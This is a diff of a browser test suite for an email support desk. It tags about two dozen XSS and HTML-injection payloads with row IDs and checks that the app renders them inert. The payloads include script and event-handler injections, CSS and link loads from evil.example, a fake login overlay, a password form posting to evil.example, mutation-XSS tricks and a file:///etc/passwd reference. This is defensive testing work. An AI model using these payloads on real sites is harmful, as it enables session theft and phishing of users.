@@ -20,31 +20,67 @@ pytestmark = pytest.mark.browser
 
 FROM = "eve@evil.example"
 TO = "support@kaldera.example"
-# Each of what peers were bitten by: scripts, handlers, style sheets, overlays, forms, clobbering, frames, MathML.
+# What peers were bitten by, each with the row it stands for: scripts, handlers, style sheets, overlays, forms, clobbering, frames, MathML.
 OURS = (
-    "<p>hello</p><svg onload=alert(1)><script>alert(1)</script></svg>",
-    "<p>hello</p><img src=x onerror=alert(1)><img src=//evil.example/a.gif>",
-    '<p>hello</p><style>@im@import url(//evil.example/e)port "x"</style>',
-    "<p>hello</p><style>body{background:url(//evil.example/b)}</style>",
-    '<p>hello</p><div style="position:fixed;inset:0;z-index:9">Session expired, log in</div>',
-    '<p>hello</p><p style="background:url(https://evil.example/c)">x</p>',
-    '<p>hello</p><p style="background:u\\72l(//evil.example/c)">x</p>',
-    '<p>hello</p><form action="//evil.example"><input name=password autofocus onfocus=alert(1)></form>',
-    "<p>hello</p><div id=attributes name=getElementById>x</div><img name=body src=cid:a>",
-    '<p>hello</p><iframe src="https://www.youtube.com@evil.example/"></iframe>',
-    "<p>hello</p><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
-    '<p>hello</p><a href="JaVaScRiPt&colon;alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
-    "<p>hello</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<p>hello</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    '<p>hello</p><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">',
-    '<p>hello</p><link rel=stylesheet href="//evil.example/s.css"><link rel=preload as=image href="//evil.example/p.png">',
-    "<p>hello</p><object data=//evil.example/o></object><embed src=//evil.example/e><video poster=//evil.example/v autoplay>",
-    '<p>hello</p><table background="//evil.example/t"><tr><td background="//evil.example/u">x</td></tr></table>',
-    '<p>hello</p><img srcset="//evil.example/1x 1x, //evil.example/2x 2x" src="file:///etc/passwd">',
-    "<p>hello</p><details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
-    "<p>hello</p><template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
-    "<p>hello</p><body onload=alert(1)><html onclick=alert(1)>",
-    "<p>hello</p><a href='//evil.example' ping='//evil.example/ping' target=_top>leave</a>",
+    ("D01", "<p>hello</p><svg onload=alert(1)><script>alert(1)</script></svg>"),
+    ("D01", "<p>hello</p><img src=x onerror=alert(1)><img src=//evil.example/a.gif>"),
+    ("D03", '<p>hello</p><style>@im@import url(//evil.example/e)port "x"</style>'),
+    ("D03", "<p>hello</p><style>body{background:url(//evil.example/b)}</style>"),
+    (
+        "D05",
+        '<p>hello</p><div style="position:fixed;inset:0;z-index:9">Session expired, log in</div>',
+    ),
+    ("D05", '<p>hello</p><p style="background:url(https://evil.example/c)">x</p>'),
+    ("D05", '<p>hello</p><p style="background:u\\72l(//evil.example/c)">x</p>'),
+    (
+        "D07",
+        '<p>hello</p><form action="//evil.example"><input name=password autofocus onfocus=alert(1)></form>',
+    ),
+    ("D09", "<p>hello</p><div id=attributes name=getElementById>x</div><img name=body src=cid:a>"),
+    ("D15", '<p>hello</p><iframe src="https://www.youtube.com@evil.example/"></iframe>'),
+    ("D15", "<p>hello</p><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>"),
+    (
+        "D13",
+        '<p>hello</p><a href="JaVaScRiPt&colon;alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
+    ),
+    (
+        "D01 MathML",
+        "<p>hello</p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    ),
+    ("D01 noscript", "<p>hello</p><noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
+    (
+        "D07 meta",
+        '<p>hello</p><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">',
+    ),
+    (
+        "D03 link",
+        '<p>hello</p><link rel=stylesheet href="//evil.example/s.css"><link rel=preload as=image href="//evil.example/p.png">',
+    ),
+    (
+        "D15 object",
+        "<p>hello</p><object data=//evil.example/o></object><embed src=//evil.example/e><video poster=//evil.example/v autoplay>",
+    ),
+    (
+        "D05 table",
+        '<p>hello</p><table background="//evil.example/t"><tr><td background="//evil.example/u">x</td></tr></table>',
+    ),
+    (
+        "D01 srcset",
+        '<p>hello</p><img srcset="//evil.example/1x 1x, //evil.example/2x 2x" src="file:///etc/passwd">',
+    ),
+    (
+        "D01 details",
+        "<p>hello</p><details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
+    ),
+    (
+        "D01 template",
+        "<p>hello</p><template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
+    ),
+    ("D01 body", "<p>hello</p><body onload=alert(1)><html onclick=alert(1)>"),
+    (
+        "D07 ping",
+        "<p>hello</p><a href='//evil.example' ping='//evil.example/ping' target=_top>leave</a>",
+    ),
 )
 HARMLESS = (
     '<table width="100%"><tr><td align="center" style="color:#c00;padding:8px"><b>Pedido 7</b></td></tr></table>'
@@ -101,7 +137,7 @@ def shows(visitor: Visitor, message: int) -> list[str]:
     return list(response.evaluate(ACTING))
 
 
-def test_a_name_with_markup_is_shown_as_it_is_written(desk: Desk, comes: Comes) -> None:
+def test_d11_a_name_with_markup_is_shown_as_it_is_written(desk: Desk, comes: Comes) -> None:
     name = "<img src=x onerror=alert(1)>"
     body = letter(f'"{name}" <{FROM}>', subject="<script>alert(1)</script> tag", text=name)
     mina = comes("mina")
@@ -134,7 +170,9 @@ FILES = [
 ]  # fmt: skip
 
 
-def test_files_are_saved_under_harmless_names_and_never_run(desk: Desk, comes: Comes) -> None:
+def test_e01_e03_e05_e11_files_are_saved_under_harmless_names_and_never_run(
+    desk: Desk, comes: Comes
+) -> None:
     body = letter(f"Eve <{FROM}>", subject="Hostile files", text="see the files", files=FILES)
     send(desk.smtp_port, body, from_=FROM, to=TO)
     wait_until(lambda: desk.json("mail")["pending"] == 0, why="it is understood")
@@ -188,14 +226,15 @@ def test_two_hundred_known_attacks_do_nothing(desk: Desk, comes: Comes) -> None:
     assert len(known) > len(cases) * 0.6  # the others have nothing left to show
 
 
-def test_what_peers_were_bitten_by_does_nothing_in_the_conversation(
+def test_d01_d03_d05_d07_d09_d15_what_peers_were_bitten_by_does_nothing_in_the_conversation(
     desk: Desk, comes: Comes
 ) -> None:
-    sent = send_all(desk, "Hostile", OURS)
+    sent = send_all(desk, "Hostile", [fragment for _row, fragment in OURS])
     assert len(sent) == len(OURS)
     mina = comes("mina")
     wrong = []
     for subject, (_, reference) in sent.items():
+        row = OURS[int(subject.split()[-1])][0]
         page = mina.goes_to(f"/c/{reference}/")
         acted: list[str] = []
         page.once("dialog", lambda dialog, acted=acted: (acted.append(dialog.message), dialog.dismiss()))  # fmt: skip
@@ -203,7 +242,7 @@ def test_what_peers_were_bitten_by_does_nothing_in_the_conversation(
         frame = page.frame_locator("iframe.frame").first
         expect(frame.locator("body")).to_contain_text("hello")
         bad = frame.locator(":root").evaluate(f"(root) => ({ACTING})()")
-        wrong += [f"{subject}: {one}" for one in [*bad, *acted]]
+        wrong += [f"{row}, {subject}: {one}" for one in [*bad, *acted]]
         # It cannot leave its frame: nothing of it lies over our page, and our page is still ours.
         expect(page.locator("#composer")).to_be_visible()
         assert "/c/" in page.url
